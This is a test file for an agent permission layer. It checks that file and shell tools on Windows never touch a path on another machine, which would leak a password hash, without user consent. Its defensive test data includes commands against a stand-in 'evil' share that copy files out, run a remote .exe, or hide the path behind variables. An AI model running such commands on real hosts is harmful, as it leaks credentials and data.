// A path of another machine: Windows signs in there, and so shows a hash of the user's password, as soon as anything asks
// whether it is there. Nothing may, before the user agreed.
import { describe, expect, test, vi } from "vitest";
import { MemoryDisk } from "../../../memory/disk.js";
import { world } from "./permissionRig.js";

/** Runs a call; returns the paths of other machines that the disk was asked for. */
async function askedOfNetwork(run: () => Promise<unknown>): Promise<string[]> {
  const spy = vi.spyOn(MemoryDisk.prototype, "realPath");
  try {
    await run();
    return spy.mock.calls.map(([path]) => path).filter((path) => /^[\\/]{2}/.test(path));
  } finally {
    spy.mockRestore();
  }
}

const PATHS = [
  "\\\\evil\\share\\x",
  "//evil/share/x",
  "\\/evil\\share/x",
  "\\\\?\\UNC\\evil\\share\\x",
  "\\\\?\\C:\\work\\a.txt",
  "\\\\.\\UNC\\evil\\share\\x",
  "file://evil/share/x",
  "file:////evil/share/x",
];

describe("no file tool reaches a path of another machine", () => {
  const { explain } = world({ onWindows: true });
  const calls = PATHS.flatMap((path) =>
    [
      { tool: "read", input: { path } },
      { tool: "ls", input: { path } },
      { tool: "glob", input: { pattern: "*", path } },
      { tool: "grep", input: { pattern: "x", path } },
      { tool: "write", input: { path, content: "x" } },
      { tool: "edit", input: { path, old_text: "a", new_text: "b" } },
      { tool: "exec", input: { command: "ls", workdir: path } },
    ].map((call) => ({ ...call, path })),
  );
  test.each(calls)("$tool $path", async ({ tool, input }) => {
    const seen: unknown[] = [];
    const asked = await askedOfNetwork(() =>
      explain(tool, input).then(
        ({ decision }) => seen.push(decision),
        (error: unknown) => seen.push((error as { type?: string }).type),
      ),
    );
    expect(asked).toEqual([]);
    expect(["ask", "deny", "invalid_input"]).toContain(seen[0]);
  });
});

describe.each([
  { shell: "bash", inPowerShell: false },
  { shell: "PowerShell", inPowerShell: true },
])(
  "commands in $shell on Windows that name another machine ask, and nothing is asked there first",
  ({ inPowerShell }) => {
    const { explain } = world({ onWindows: true, inPowerShell });
    test.each([
      "cat //evil/share/x",
      "cat '\\\\evil\\share\\x'",
      "ls //evil/share",
      "ls '\\\\evil\\share'",
      "cd //evil/share; ls",
      "cd '\\\\evil\\share'; cat x",
      "rg x //evil/share",
      "rg x '\\\\evil\\share'",
      "grep -r x //evil/share",
      "cat a.txt > //evil/share/x",
      "cat < //evil/share/x",
      "find //evil/share -name x",
      "diff a.txt //evil/share/x",
      "head -1 '\\\\?\\UNC\\evil\\share\\x'",
      "git -C //evil/share status",
      "git diff --no-index a.txt //evil/share/x",
      "sort //evil/share/x",
      "test -f //evil/share/x",
      "[ -e //evil/share/x ]",
      "stat //evil/share/x",
      "wc -l //evil/share/*",
      "//evil/share/x.exe",
      "'\\\\evil\\share\\x.exe'",
      "cat file://evil/share/x",
    ])("%s", async (command) => {
      let decision: string | undefined;
      const asked = await askedOfNetwork(async () => {
        ({ decision } = await explain("exec", { command }));
      });
      expect(decision).toBe("ask");
      expect(asked).toEqual([]);
    });
  },
);

describe("what bash on Windows looks for at once, wherever it is, asks", () => {
  const { explain } = world({ onWindows: true });
  test.each([
    "echo //evil/share/*",
    "echo {a,//evil/share/*}",
    "for f in //evil/share/*; do echo $f; done",
    "[[ -e //evil/share/x ]]",
    "[[ -e '\\\\evil\\share' ]]",
    "test -d \\\\\\\\evil\\\\share",
    'x=//evil/share; test -e "$x"',
    "x=/; test -e $x/evil/share",
    "x=/evil/share; [ -e /$x ]",
    "x=/evil/share; echo /$x/*",
    "x=$(printf /); echo $x/evil/share/*",
    "x=$(printf /); [[ -f $x/evil/share ]]",
    "test a.txt -nt $x",
  ])("%s", async (command) => {
    expect(await explain("exec", { command })).toMatchObject({ decision: "ask" });
  });

  test.each([
    "test -f a.txt",
    "[ -d src ] && ls src",
    "echo src/*",
    "rg 'https://example.com' src",
    "rg '// TODO' src",
    "rg '\\.ts' src",
    "cat src//a.ts",
    "sed 's/a//g' a.txt",
    '[ -n "$HOME" ] && echo yes',
  ])("as it does not of what names nothing there: %s", async (command) => {
    expect(await explain("exec", { command })).toMatchObject({ decision: "allow" });
  });
});

test.each(["test -f //etc/hosts", 'x=a.txt; test -e "$x"'])(
  "elsewhere two slashes in front are one, and ask for nothing: %s",
  async (command) => {
    expect(await world().explain("exec", { command })).toMatchObject({ decision: "allow" });
  },
);
